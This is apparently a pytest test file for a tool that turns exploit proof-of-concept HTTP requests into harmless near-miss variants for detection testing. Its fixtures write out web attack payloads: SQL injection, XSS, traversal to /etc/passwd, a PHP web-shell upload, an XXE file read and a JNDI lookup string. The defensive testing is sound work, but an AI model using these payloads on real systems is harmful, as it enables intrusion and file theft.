"""Near-misses: they look like the exploit, and hold no payload where one was replaced."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ruleforge.background.table import default_background
from ruleforge.cases.anatomy import Part, classes_of, dissect
from ruleforge.cases.near import near_miss_exemption, near_misses, neutralise
from ruleforge.cases.ordinary import FILLINGS, kind_of, ordinary_file, ordinary_value, prose
from ruleforge.errors import UsageError
from ruleforge.events.places import HttpView
from ruleforge.records.advisory import PocRequest

FORM = ["Content-Type", "application/x-www-form-urlencoded"]
JSON = ["Content-Type", "application/json"]
UPLOAD = (
    '--cutHere\r\nContent-Disposition: form-data; name="picture"; filename="cat.php"\r\n'
    "Content-Type: image/png\r\n\r\n<?php system('id'); ?>\r\n--cutHere--\r\n"
)
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><order><item>&e;</item></order>'
EXPLOITS: dict[str, dict[str, Any]] = {
    "sql in query": {"target": "/larder/shelf.php?action=list&jar=1'+UNION+SELECT+1--+-", "cwes": ["CWE-89"]},
    "xss in form": {
        "target": "/larder/note",
        "body": "who=me&text=%3Cscript%3Ealert(2)%3C%2Fscript%3E",
        "headers": [FORM],
        "cwes": ["CWE-79"],
    },
    "traversal in json": {
        "target": "/api/larder",
        "body": '{"op":"get","file":"../../../../etc/passwd"}',
        "headers": [JSON],
        "cwes": ["CWE-22"],
    },
    "upload": {
        "target": "/larder/picture",
        "body": UPLOAD,
        "cwes": ["CWE-434"],
        "headers": [["Content-Type", "multipart/form-data; boundary=cutHere"]],
    },
    "xxe": {"target": "/larder/order", "body": XXE, "headers": [["Content-Type", "text/xml"]], "cwes": ["CWE-611"]},
    "cookie": {
        "target": "/larder/basket",
        "headers": [["Cookie", "jar=1' UNION SELECT 1-- -; tz=UTC"]],
        "cwes": ["CWE-89"],
    },
    "header": {"target": "/", "headers": [["X-Forwarded-For", "${jndi:ldap://x.example/a}"]], "cwes": ["CWE-917"]},
    "redirect": {"target": "/larder/leave?next=https://elsewhere.example/", "cwes": ["CWE-601"]},
    "template name": {"target": "/larder/a?plum[{{7*'7'}}]=12", "cwes": ["CWE-1336"]},
}
PATHS: dict[str, dict[str, Any]] = {
    "encoded": {"target": "/static/..%2f..%2f..%2fetc/passwd", "cwes": ["CWE-22"]},
    "raw": {"target": "/static/css/../../../../etc/passwd", "cwes": ["CWE-22"]},
}
NO_PAYLOAD = [
    ({"target": "/larder/export/all.zip"}, "path only"),
    ({"target": "/larder/remove?action=drop&jar=plum"}, "ordinary call"),
]


def payload_places(data: dict[str, Any], make_anatomy: Any) -> list[tuple[str, bytes]]:
    return [(part.place, part.name) for part in make_anatomy(data).payloads if part.place != "body"]


def kinds(found: Any) -> set[str]:
    return {one.kind for one in found}


@pytest.mark.parametrize("name", EXPLOITS)
def test_neutralising_replaces_the_payload_only(name: str, make_anatomy: Any, make_advisory: Any) -> None:
    data = EXPLOITS[name]
    anatomy = make_anatomy(data)
    assert anatomy.has_payload or name == "template name"
    made = neutralise(anatomy, make_advisory(data))
    assert made is not None
    after = dissect(PocRequest(request=made))
    assert not after.has_payload
    assert made.method == anatomy.poc.request.method
    assert HttpView(made).read("path") == HttpView(anatomy.poc.request).read("path")
    carrying = {(part.place, part.name) for part in anatomy.payloads} | {
        ("query_args", part.name) for part in anatomy.parts if b"{{" in part.name
    }
    kept = [(part.place, part.name, part.value) for part in anatomy.parts if (part.place, part.name) not in carrying]
    for place, part_name, value in kept:
        if name != "xxe":
            assert value in [one.value for one in HttpView(made).read(place, part_name).elements]


@pytest.mark.parametrize("family", ["feedback", "judge"])
@pytest.mark.parametrize("name", EXPLOITS)
def test_no_payload_is_left_in_near_misses_of_the_same_place(
    name: str, family: str, make_anatomy: Any, make_advisory: Any
) -> None:
    data = EXPLOITS[name]
    found = near_misses(make_anatomy(data), make_advisory(data), family)
    assert "ordinary_values" in kinds(found)
    assert sum(one.kind == "ordinary_values" for one in found) >= (1 if name in ("xxe", "header") else 3)
    for one in found:
        left = dissect(PocRequest(request=one.request))
        assert left.has_payload is (one.kind == "payload_elsewhere" and name != "template name"), (
            one.kind,
            one.request,
        )
        assert one.why


@pytest.mark.parametrize("family", ["feedback", "judge"])
def test_an_attack_with_an_endpoint_has_every_kind(family: str, make_anatomy: Any, make_advisory: Any) -> None:
    data = EXPLOITS["sql in query"]
    found = near_misses(make_anatomy(data), make_advisory(data), family)
    expected = {"ordinary_values", "payload_elsewhere", "param_elsewhere"}
    judge = {"bare_get", "sibling_file", "other_content"}
    assert kinds(found) == (expected | judge if family == "judge" else expected)
    for one in found:
        same = HttpView(one.request).read("path").elements[0].value == b"/larder/shelf.php"
        assert same is (one.kind in ("ordinary_values", "bare_get", "other_content"))


def test_selectors_stay_while_values_change(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/larder/shelf.php?action=list&label=plums&q=1'+UNION+SELECT+1--+-", "cwes": ["CWE-89"]}
    found = near_misses(make_anatomy(data), make_advisory(data), "feedback")
    same_place = [HttpView(one.request) for one in found if one.kind == "ordinary_values"]
    assert {view.read("args", b"action").elements[0].value for view in same_place} == {b"list"}
    labels = {view.read("args", b"label").elements[0].value for view in same_place}
    assert b"plums" in labels
    assert len(labels) >= 3


def test_attacks_on_any_path_have_no_payload_elsewhere(make_anatomy: Any, make_advisory: Any) -> None:
    for name in ("header", "cookie"):
        for family in ("feedback", "judge"):
            found = near_misses(make_anatomy(EXPLOITS[name]), make_advisory(EXPLOITS[name]), family)
            assert found
            assert not kinds(found) & {"payload_elsewhere", "bare_get"}


@pytest.mark.parametrize("name", PATHS)
def test_a_payload_in_the_path_is_cut(name: str, make_anatomy: Any, make_advisory: Any) -> None:
    data = PATHS[name]
    anatomy = make_anatomy(data)
    assert near_miss_exemption(anatomy) == ""
    found = near_misses(anatomy, make_advisory(data), "feedback")
    assert kinds(found) == {"path_ordinary"}
    targets = [one.request.target for one in found]
    folder = b"/static/" if name == "encoded" else b"/static/css/"
    assert targets == [folder, folder + b"index.html"]


@pytest.mark.parametrize(("data", "words"), NO_PAYLOAD)
def test_nothing_is_faked_where_no_payload_is(
    data: dict[str, Any], words: str, make_anatomy: Any, make_advisory: Any
) -> None:
    anatomy = make_anatomy(data)
    assert words in near_miss_exemption(anatomy)
    assert neutralise(anatomy, make_advisory(data)) is None
    assert not kinds(near_misses(anatomy, make_advisory(data), "feedback")) & {"ordinary_values", "path_ordinary"}


def test_fixed_credentials_are_replaced(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/larder/enter", "body": "user=service&password=plumjam42", "headers": [FORM]}
    anatomy = make_anatomy(data)
    assert near_miss_exemption(anatomy) == ""
    found = [one for one in near_misses(anatomy, make_advisory(data), "feedback") if one.kind == "ordinary_values"]
    assert len(found) == FILLINGS
    assert all(b"plumjam42" not in (one.request.body or b"") for one in found)


def test_an_unknown_text_beside_a_payload_is_replaced_too(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/larder?q=1'+UNION+SELECT+1--+-&z={.jar|run.}", "cwes": ["CWE-89"]}
    made = neutralise(make_anatomy(data), make_advisory(data))
    assert made is not None
    assert b"jar|run" not in made.target


def test_a_binary_body_is_not_neutralised(make_anatomy: Any, make_advisory: Any) -> None:
    body = "\x01\x02\x03 ../../../../etc/passwd \x01"
    data = {
        "target": "/larder/raw",
        "body": body,
        "headers": [["Content-Type", "application/octet-stream"]],
        "cwes": ["CWE-22"],
    }
    anatomy = make_anatomy(data)
    assert [part.place for part in anatomy.payloads] == ["body"]
    assert neutralise(anatomy, make_advisory(data)) is None
    assert near_miss_exemption(anatomy) == "the payload is the whole body"


def test_families_make_different_requests(make_anatomy: Any, make_advisory: Any) -> None:
    for name, data in EXPLOITS.items():
        made = [
            {
                (o.request.target, o.request.body, o.request.headers)
                for o in near_misses(make_anatomy(data), make_advisory(data), family)
            }
            for family in ("feedback", "judge")
        ]
        assert made[0], name
        shared = made[0] & made[1]
        assert len(shared) <= 1, name


def test_an_unknown_family_is_refused(make_anatomy: Any, make_advisory: Any) -> None:
    with pytest.raises(UsageError, match="RF103"):
        near_misses(make_anatomy({}), make_advisory({}), "oracle")


NAMES = [
    b"email",
    b"password",
    b"token",
    b"role",
    b"host",
    b"redirect_url",
    b"fileName",
    b"date",
    b"username",
    b"sort",
    b"post_id",
    b"lang",
    b"q",
    b"zzz",
    b"a[b][mail]",
    b"/user/email",
]


@pytest.mark.parametrize("family", ["feedback", "judge"])
@pytest.mark.parametrize("name", NAMES)
def test_ordinary_values_hold_no_payload_and_differ(name: bytes, family: str) -> None:
    part = Part("query_args", name, b"x")
    values = [ordinary_value(part, number, family) for number in range(FILLINGS)]
    assert len(set(values)) == FILLINGS
    found = [(value, classes_of(value)) for value in (*values, *[prose(part, n) for n in range(FILLINGS)])]
    assert [(value, classes) for value, classes in found if classes] == []


@pytest.mark.parametrize("name", [b"user-agent", b"referer", b"x-forwarded-for", b"content-type", b"authorization"])
def test_ordinary_headers_hold_no_payload(name: bytes) -> None:
    for family in ("feedback", "judge"):
        for number in range(FILLINGS):
            assert classes_of(ordinary_value(Part("headers", name, b""), number, family)) == ()


def test_ordinary_file_names_are_no_programs() -> None:
    names = {ordinary_file(number, family) for number in range(FILLINGS) for family in ("feedback", "judge")}
    assert len(names) == 2 * FILLINGS
    assert [name for name in names if classes_of(name)] == []


KINDS = [
    (b"mail", b"", "mail"),
    (b"user_email", b"", "mail"),
    (b"zz", b"a@b.example", "mail"),
    (b"zz", b"2024-01-02", "date"),
    (b"zz", b"41", "number"),
    (b"zz", b"https://h.example/", "link"),
    (b"zz", b"cat.png", "file"),
    (b"zz", b"plum", "default"),
    (b"/a/0/file_path", b"x", "file"),
    (b"fields[role]", b"x", "role"),
]


@pytest.mark.parametrize(("name", "value", "kind"), KINDS)
def test_a_parameter_is_known_by_name_and_look(name: bytes, value: bytes, kind: str) -> None:
    assert kind_of(name, value) == kind


@given(st.text(max_size=40), st.text(max_size=40), st.sampled_from(["feedback", "judge"]))
def test_hostile_requests_give_near_misses_without_an_error(
    make_anatomy: Any, make_advisory: Any, target: str, body: str, family: str
) -> None:
    for headers in ([], [FORM], [JSON]):
        data = {"target": "/" + target, "body": body, "headers": headers, "cwes": ["CWE-89"]}
        anatomy, advisory = make_anatomy(data), make_advisory(data)
        found = near_misses(anatomy, advisory, family)
        assert found == near_misses(anatomy, advisory, family)
        assert len(found) <= 24
        assert found or near_miss_exemption(anatomy)


def test_a_request_with_too_many_payloads_is_left_alone(make_anatomy: Any, make_advisory: Any) -> None:
    data = {"target": "/larder?" + "&".join(f"a{n}=1'+UNION+SELECT+1--+-" for n in range(900)), "cwes": ["CWE-89"]}
    anatomy = make_anatomy(data)
    assert neutralise(anatomy, make_advisory(data)) is None
    assert "too many" in near_miss_exemption(anatomy)


def test_json_stays_json(make_anatomy: Any, make_advisory: Any) -> None:
    data = EXPLOITS["traversal in json"]
    for one in near_misses(make_anatomy(data), make_advisory(data), "feedback"):
        document = json.loads(one.request.body or b"")
        assert document["op"] == "get"
        assert len(document) == 2


def test_where_links_must_not_lead_away_a_page_of_the_own_site_is_ordinary(
    make_anatomy: Any, make_advisory: Any
) -> None:
    data = {"target": "/larder/out?next=https://elsewhere.example/jam", "cwes": ["CWE-601"]}
    made = [
        one
        for one in near_misses(make_anatomy(data), make_advisory(data), "feedback", default_background())
        if one.kind == "own_page"
    ]
    assert [one.request.target for one in made] == [b"/larder/out?next=https://shop.example.org/account/home"]
    fetches = data | {"cwes": ["CWE-918"]}
    assert not [
        one
        for one in near_misses(make_anatomy(fetches), make_advisory(fetches), "feedback", default_background())
        if one.kind == "own_page"
    ]
